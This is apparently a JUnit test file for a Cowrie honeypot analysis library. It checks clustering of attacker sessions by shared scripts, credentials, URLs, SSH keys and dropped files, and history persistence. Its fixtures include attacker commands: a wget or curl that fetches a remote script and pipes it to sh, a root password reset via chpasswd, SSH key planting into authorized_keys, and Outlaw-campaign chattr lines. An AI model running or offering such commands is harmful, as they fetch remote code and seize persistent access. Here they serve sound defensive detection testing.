package io.github.cowriekit.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.Endpoint;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionBuilder;
import io.github.cowriekit.model.assessment.Assessment;
import io.github.cowriekit.model.assessment.CredentialView;
import io.github.cowriekit.model.assessment.history.ClusterLink;
import io.github.cowriekit.model.assessment.history.ClusterLink.Reason;
import io.github.cowriekit.parser.CowrieLog;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SessionHistoryTest {
    private static final Path RECORDED = Path.of("..", "..", "shared", "cowrie3", "plain");
    private static final String[] SCRIPT = {"cd /tmp", "uname -a", "id", "w", "free -m", "df -h", "nproc", "lscpu"};

    private final SessionHistory history = SessionHistory.create();
    private final Analysis analysis = Analysis.builder().history(history).build();

    @TempDir
    private Path folder;

    @Test
    void putsTheSameScriptIntoOneCluster() {
        ClusterLink first = link(from("203.0.113.1", SCRIPT));
        ClusterLink second = link(from("203.0.113.2", SCRIPT));

        assertThat(first.isNew()).isTrue();
        assertThat(first.sessions()).isZero();
        assertThat(first.first()).isNull();
        assertThat(second.name()).isEqualTo(first.name()).matches("c-[0-9a-f]{10}");
        assertThat(second.reason()).isEqualTo(Reason.SAME_SEQUENCE);
        assertThat(second.sessions()).isEqualTo(1);
        assertThat(second.sources()).isEqualTo(1);
        assertThat(second.last()).isEqualTo(Sessions.START);
    }

    @Test
    void linksByWhatOnlyOneHandHas() {
        link(from("203.0.113.1", "echo \"root:aeUVqyLmI0Sy\"|chpasswd", "w"));
        link(from("203.0.113.1", "wget http://192.0.2.7/a/x.sh; sh x.sh"));
        link(from("203.0.113.1", "echo ssh-rsa " + "B".repeat(44) + " >> .ssh/authorized_keys"));
        link(dropped("11".repeat(32), "cat > a"));

        assertThat(link(from("203.0.113.2", "id", "echo \"root:aeUVqyLmI0Sy\"|chpasswd|bash"))
                        .reason())
                .isEqualTo(Reason.WRITTEN_CREDENTIAL);
        assertThat(link(from("203.0.113.2", "curl http://192.0.2.7/a/x.sh|sh"))).satisfies(link -> {
            assertThat(link.reason()).isEqualTo(Reason.URL);
            assertThat(link.observed()).isEqualTo("192.0.2.7/a/x.sh");
        });
        assertThat(link(from("203.0.113.2", "mkdir .ssh; echo ssh-rsa " + "B".repeat(44) + " > .ssh/authorized_keys"))
                        .reason())
                .isEqualTo(Reason.SSH_KEY);
        assertThat(link(dropped("11".repeat(32), "cat > b; chmod +x b")).reason())
                .isEqualTo(Reason.FILE);
    }

    @Test
    void doesNotLinkByTrivialFilesOrShortLikeness() {
        String newline = "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b";
        link(dropped(newline, "echo > a"));
        link(from("203.0.113.1", "id", "w"));

        assertThat(link(dropped(newline, "echo > /etc/hosts.deny; id")).isNew()).isTrue();
        assertThat(link(from("203.0.113.1", "id", "w", "ls")).isNew()).isTrue();
    }

    @Test
    void linksNearDuplicates() {
        link(from("203.0.113.1", SCRIPT));
        String[] changed = SCRIPT.clone();
        changed[changed.length - 1] = "cat /proc/cpuinfo";

        ClusterLink link = link(from("203.0.113.2", changed));

        // 8 lines and 7 pairs each, of which 7 and 6 are common: 13 of 17
        assertThat(link.reason()).isEqualTo(Reason.NEAR_DUPLICATE);
        assertThat(link.observed()).isEqualTo("0.76");
    }

    /** The commands are chosen so that now the cluster of the key has the smallest name, now that of the URL. */
    @ParameterizedTest
    @CsvSource({"ls, df, true", "df, uname, false"})
    void makesTwoClustersOneWhenASessionSharesWithBoth(String planting, String loading, boolean namedByKey) {
        String plants = "echo ssh-rsa " + "C".repeat(44) + " >> .ssh/authorized_keys; " + planting;
        String loads = loading + "; wget http://192.0.2.7/a/y.sh";
        ClusterLink key = link(from("203.0.113.1", plants));
        ClusterLink url = link(from("203.0.113.2", loads));
        Session both = from("203.0.113.3", loads + "; " + plants);
        String smallest =
                Collections.min(List.of(key.name(), url.name(), alone(both).name()));
        assertThat(smallest).isEqualTo(namedByKey ? key.name() : url.name());
        link(both);

        ClusterLink likeKey = link(from("203.0.113.4", plants));
        ClusterLink likeUrl = link(from("203.0.113.5", loads));

        assertThat(List.of(likeKey.reason(), likeUrl.reason())).containsOnly(Reason.SAME_SEQUENCE);
        assertThat(likeKey.sessions()).isEqualTo(3);
        assertThat(likeKey.sources()).isEqualTo(3);
        assertThat(likeUrl.sessions()).isEqualTo(4);
        assertThat(likeUrl.sources()).isEqualTo(4);
        assertThat(List.of(likeKey.name(), likeUrl.name())).containsOnly(smallest);
    }

    @Test
    void namesAClusterByItsCampaign() {
        link(from("203.0.113.1", "cd ~; chattr -ia .ssh; lockr -ia .ssh"));

        assertThat(link(from("203.0.113.1", "cd ~; chattr -ia .ssh; lockr -ia .ssh"))
                        .name())
                .isEqualTo("outlaw-mdrfckr");
    }

    @Test
    void hasNothingToCompareWithoutCommandsAndFiles() {
        assertThat(analysis.assess(Sessions.ran().build()).cluster()).isNull();
        assertThat(Analysis.standard().assess(Sessions.ran("id").build()).cluster())
                .isNull();
    }

    @Test
    void remembersCredentialsOfAllSensors() {
        CredentialView first = only(analysis.assess(Sessions.ran("id").build()));
        CredentialView second = only(analysis.assess(Sessions.ran("id").build()));
        CredentialView elsewhere = only(analysis.assess(from("203.0.113.77", "id")));

        assertThat(first.firstSeen()).isTrue();
        assertThat(first.earlier()).isZero();
        assertThat(first.earlierSources()).isZero();
        assertThat(second.firstSeen()).isFalse();
        assertThat(second.earlier()).isEqualTo(1);
        assertThat(elsewhere.firstSeen()).isFalse();
        assertThat(elsewhere.earlier()).isEqualTo(2);
        assertThat(elsewhere.earlierSources()).isEqualTo(1);
        assertThat(only(Analysis.standard().assess(Sessions.ran("id").build())).firstSeen())
                .isNull();
    }

    @Test
    void answersTheSameAfterSavingAndLoading() throws IOException {
        List<Session> sessions = mixed(400);
        // a history that was loaded says so: both are
        SessionHistory half = reloaded(SessionHistory.create());
        Analysis never = Analysis.builder().history(reloaded(half)).build();
        List<Assessment> through = sessions.stream().map(never::assess).toList();
        Analysis before = Analysis.builder().history(half).build();
        List<Assessment> split = new ArrayList<>();
        sessions.subList(0, 200).forEach(session -> split.add(before.assess(session)));
        half.save(folder.resolve("history"));
        Analysis after = Analysis.builder()
                .history(SessionHistory.load(folder.resolve("history")))
                .build();
        sessions.subList(200, 400).forEach(session -> split.add(after.assess(session)));

        assertThat(split).isEqualTo(through);
        assertThat(folder).isDirectoryContaining("glob:**history").isDirectoryNotContaining("glob:**.part");
    }

    @Test
    void writesTheSameBytesForTheSameSessions() throws IOException {
        for (String name : List.of("a", "b")) {
            SessionHistory one = SessionHistory.create();
            Analysis same = Analysis.builder().history(one).build();
            mixed(200).forEach(same::assess);
            one.save(folder.resolve(name));
        }

        assertThat(folder.resolve("a")).hasSameBinaryContentAs(folder.resolve("b"));
    }

    @Test
    void survivesSaveAndLoadOnRecordedSessions() throws IOException {
        assumeTrue(Files.isDirectory(RECORDED), "no real sessions beside the project at " + RECORDED + ": skipped");
        List<ClusterLink> links = new ArrayList<>();
        List<ClusterLink> reloaded = new ArrayList<>();
        SessionHistory kept = SessionHistory.create();
        try (var sessions = CowrieLog.in(RECORDED).onProblem(problem -> {}).sessions()) {
            for (Session session : sessions.toList()) {
                ClusterLink link = analysis.assess(session).cluster();
                ClusterLink again =
                        Analysis.builder().history(kept).build().assess(session).cluster();
                if (link != null) {
                    links.add(link);
                    reloaded.add(Objects.requireNonNull(again));
                }
                if (links.size() % 20 == 0) {
                    kept.save(folder.resolve("history"));
                    kept = SessionHistory.load(folder.resolve("history"));
                }
            }
        }

        assertThat(links).hasSizeGreaterThan(50).anyMatch(link -> !link.isNew());
        assertThat(reloaded).isEqualTo(links);
    }

    @Test
    void rejectsWhatIsNoHistory() throws IOException {
        Path file = folder.resolve("history");
        mixed(50).forEach(analysis::assess);
        history.save(file);
        byte[] good = Files.readAllBytes(file);

        byte[] damaged = good.clone();
        damaged[30] ^= 1;
        assertThatThrownBy(() -> SessionHistory.load(write(damaged))).isInstanceOf(AnalysisDataException.class);
        assertThatThrownBy(() -> SessionHistory.load(write(Arrays.copyOf(good, good.length / 2))))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageContaining("cannot read the history");
        assertThatThrownBy(() -> SessionHistory.load(write("what is this file about".getBytes(StandardCharsets.UTF_8))))
                .hasMessageContaining("is no saved history; start anew");
        assertThatThrownBy(
                        () -> SessionHistory.load(write("CKCROWD3 and what it held".getBytes(StandardCharsets.UTF_8))))
                .hasMessageEndingWith(
                        "is a saved history of form 3, of another version of this library; this one reads form 4; start anew");
        assertThatThrownBy(() -> SessionHistory.load(folder.resolve("none"))).isInstanceOf(AnalysisDataException.class);
        assertThatThrownBy(() -> history.save(folder.resolve("no").resolve("such")))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageContaining("cannot write the history");
    }

    private SessionHistory reloaded(SessionHistory history) {
        history.save(folder.resolve("empty"));
        return SessionHistory.load(folder.resolve("empty"));
    }

    private Path write(byte[] bytes) throws IOException {
        return Files.write(folder.resolve("broken"), bytes);
    }

    private ClusterLink link(Session session) {
        return Objects.requireNonNull(analysis.assess(session).cluster());
    }

    /** Returns the link of a session that nothing came before. */
    private static ClusterLink alone(Session session) {
        Analysis first = Analysis.builder().history(SessionHistory.create()).build();
        return Objects.requireNonNull(first.assess(session).cluster());
    }

    private static CredentialView only(Assessment assessment) {
        assertThat(assessment.credentials()).hasSize(1);
        return assessment.credentials().get(0);
    }

    private static Session from(String address, String... commands) {
        return Sessions.ran(commands).source(new Endpoint(address, 40_000)).build();
    }

    private static Session dropped(String sha256, String command) {
        return Sessions.ran(command)
                .downloads(List.of(
                        Download.builder(FileOrigin.STDIN).sha256(sha256).build()))
                .build();
    }

    /** Sessions of a few scripts with small changes, from many addresses. */
    private static List<Session> mixed(int number) {
        List<Session> sessions = new ArrayList<>();
        for (int i = 0; i < number; i++) {
            String[] commands = SCRIPT.clone();
            commands[i % commands.length] = "cat /proc/cpuinfo";
            commands[(i * 7) % commands.length] = "ls /opt/step" + (char) ('a' + i % 26);
            SessionBuilder builder = Sessions.withId("fd5ac84ee8f9", commands)
                    .source(new Endpoint("203.0.113." + i % 50, 40_000))
                    .startedAt(Sessions.START.plusSeconds(i * 60L));
            sessions.add(builder.build());
        }
        return sessions;
    }
}
